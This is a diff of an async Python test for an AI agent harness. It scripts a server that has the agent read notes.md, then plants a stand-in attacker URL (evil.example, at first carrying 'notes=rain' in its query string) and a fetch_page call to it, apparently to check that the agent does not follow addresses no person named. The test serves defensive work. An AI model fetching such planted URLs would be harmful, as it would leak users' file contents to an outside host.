@@ -401,9 +401,9 @@ async def test_an_address_that_a_fault_quotes_is_none_that_a_person_named(
 ) -> None:
     worker, _, fetch = reader
     echo = READER._replace(persona=READER.persona._replace(checks=("sources",)))
-    evil = "https://evil.example/?notes=rain"
+    evil = "https://evil.example/?rain"
     server.says(Calls("read_file", {"path": "notes.md"}))
-    server.says(f"It rains all day and all of the night {evil}")
+    server.says(f"It is wet all day and night: {evil}")
     server.says(Calls("fetch_page", {"path": evil}))
     server.says("Rain (notes.md)\nNot known: more")
     await worker.work(echo, task("write a poem about notes.md"))
